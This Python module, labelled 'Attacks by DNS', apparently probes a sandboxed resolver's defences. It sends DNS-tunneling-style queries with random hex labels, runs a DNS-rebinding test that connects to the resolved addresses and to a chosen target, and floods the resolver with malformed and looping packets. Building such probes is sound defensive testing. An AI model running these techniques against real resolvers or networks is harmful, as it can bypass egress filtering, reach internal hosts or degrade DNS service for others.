"""Attacks by DNS."""
import os
import random
import socket
import struct

RESOLVER = ("169.254.53.53", 53)
TYPES = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65, "ANY": 255, "AXFR": 252}
CODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}
rng = random.Random(4)


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    # With EDNS, so that the reason is told.
    return struct.pack("!HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 1) + labels + struct.pack(
        "!BHH", 0, TYPES.get(kind) or int(kind), 1
    ) + b"\0" + struct.pack("!HHIH", 41, 1232, 0, 0)


def skip(message, at):
    while message[at]:
        if message[at] >= 0xC0:
            return at + 2
        at += 1 + message[at]
    return at + 1


def read(message):
    """The code, addresses and the text of an extended error."""
    flags, questions, answers, authorities, more = struct.unpack_from("!HHHHH", message, 2)
    at = 12
    for _ in range(questions):
        at = skip(message, at) + 4
    addresses, others, reason = [], 0, ""
    for index in range(answers + authorities + more):
        at = skip(message, at)
        kind, _, _, length = struct.unpack_from("!HHIH", message, at)
        data = message[at + 10 : at + 10 + length]
        at += 10 + length
        if index < answers and kind == 1:
            addresses.append(socket.inet_ntoa(data))
        elif index < answers:
            others += 1
        elif kind == 41 and len(data) > 6:
            reason = data[6:].decode(errors="replace")
    return CODES.get(flags & 15, str(flags & 15)), addresses, others, reason


def ask(name, kind="A", by="udp", resolver=RESOLVER):
    if by == "tcp":
        with socket.create_connection(resolver, timeout=30) as conn:
            message = question(name, kind)
            conn.sendall(struct.pack("!H", len(message)) + message)
            stream = conn.makefile("rb")
            return read(stream.read(struct.unpack("!H", stream.read(2))[0]))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as conn:
        conn.settimeout(30)
        conn.connect(resolver)
        conn.send(question(name, kind))
        return read(conn.recv(4096))


def dns(of, kind="A", by="udp", at=None):
    code, addresses, others, reason = ask(of, kind, by, (at, 53) if at else RESOLVER)
    outcome = "refused" if code == "REFUSED" else "answered"
    return {"outcome": outcome, "errno": code, "detail": {"addresses": addresses, "others": others, "reason": reason}}


def tunnel(below, count="120"):
    """Data in the names asked for: first as long labels that look like bytes, then as many short names."""
    told = {}
    for _ in range(20):
        code, _, _, reason = ask(os.urandom(20).hex() + "." + os.urandom(20).hex() + "." + below)
        told[reason or code] = told.get(reason or code, 0) + 1
    for number in range(int(count)):
        code, _, _, reason = ask("word%03d.%s" % (number, below))
        told[reason or code] = told.get(reason or code, 0) + 1
    return {"outcome": "done", "detail": told}


def rebind(of, to, times="12"):
    """Asks the same name again and again and connects to whatever is answered, and to where its owner would like it."""
    told, reached = set(), set()
    for _ in range(int(times)):
        _, addresses, _, _ = ask(of)
        told.update(addresses)
        for address in set(addresses) | {to}:
            try:
                socket.create_connection((address, 80), timeout=30).close()
                reached.add(address)
            except OSError:
                pass
    return {"outcome": "done", "detail": {"told": sorted(told), "reached": sorted(reached)}}


def garbage(count="300"):
    """Queries that are none: cut, random, with pointers that go round."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as conn:
        conn.connect(RESOLVER)
        good = question("www.example.com", "A")
        for number in range(int(count)):
            message = bytearray(good)
            for _ in range(rng.randrange(1, 8)):
                message[rng.randrange(len(message))] = rng.randrange(256)
            if number % 3 == 0:
                message = message[: rng.randrange(len(message))]
            if number % 5 == 0:
                message[12:14] = b"\xc0\x0c"
            if number % 7 == 0:
                message = rng.randbytes(rng.randrange(1, 6000)) if hasattr(rng, "randbytes") else os.urandom(5000)
            try:
                conn.send(bytes(message))
            except OSError:
                pass
    return {"outcome": "done"}


ATTACKS = {"dns": dns, "tunnel": tunnel, "rebind": rebind, "dns-garbage": garbage}
